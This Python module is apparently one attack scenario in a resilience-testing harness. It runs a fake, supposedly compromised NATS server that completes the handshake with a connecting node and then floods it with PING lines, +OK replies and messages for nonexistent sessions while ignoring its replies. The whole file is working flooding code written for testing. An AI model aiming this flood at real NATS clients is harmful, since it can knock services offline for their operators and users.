"""A NATS server that was broken into: it floods the node that dials through it with what carries nothing."""

from __future__ import annotations

import asyncio
import contextlib
import json
from typing import Final

from ..attack import Attack, Target

__all__ = ["ATTACK"]

_INFO: Final = b"INFO " + json.dumps({"version": "2.10.0", "max_payload": 1 << 20, "headers": True}).encode() + b"\r\n"
#: Of each kind this many in a write; writes in all, where the rounds are limited.
_BLOCK: Final = 200
_FEW: Final = 20


def _block(sessions: bytes, number: bytes) -> bytes:
    """PING, lines of +OK, messages for sessions that are not there, each with somebody who wants an answer."""
    stem = sessions.removesuffix(b"*")
    strangers = b"".join(b"MSG %b%d %b %b%d 4\r\nlost\r\n" % (stem, n, number, stem, n) for n in range(9, 9 + _BLOCK))
    return b"PING\r\n" * _BLOCK + b"+OK\r\n" * _BLOCK + strangers


async def _run(target: Target) -> None:
    done = asyncio.Event()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reading: asyncio.Future[None] | None = None
        try:
            writer.write(_INFO)
            sessions, number = b"", b"0"
            while not sessions:
                words = (await reader.readuntil(b"\r\n")).split()
                if words[:1] == [b"PING"]:
                    writer.write(b"PONG\r\n")
                elif words[:1] == [b"SUB"] and words[1].endswith(b".*"):
                    sessions, number = words[1], words[2]
            reading = asyncio.ensure_future(_skim(reader))
            block, sent = _block(sessions, number), 0
            while not reading.done() and (target.rounds is None or sent < _FEW):
                writer.write(block)
                await writer.drain()
                await asyncio.sleep(0)
                sent += 1
                target.facts["lines and messages of the broker"] += 3 * _BLOCK
        except (OSError, EOFError):
            pass
        finally:
            if reading is not None:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)
            writer.transport.abort()
            target.facts["done"] += 1
            if target.rounds is not None and target.facts["done"] >= target.rounds:
                done.set()

    server = await asyncio.start_server(serve, target.host, target.broker_port)
    async with server:
        with contextlib.suppress(asyncio.CancelledError):
            await done.wait()
    await asyncio.sleep(0)


async def _skim(reader: asyncio.StreamReader) -> None:
    """Read, and think nothing of it, to the end."""
    while await reader.read(65_536):
        pass


ATTACK = Attack(
    number=5,
    name="broker",
    about="a NATS server that floods the node with pings and with messages for streams that are not there",
    run=_run,
    broker=True,
    small=1,
)
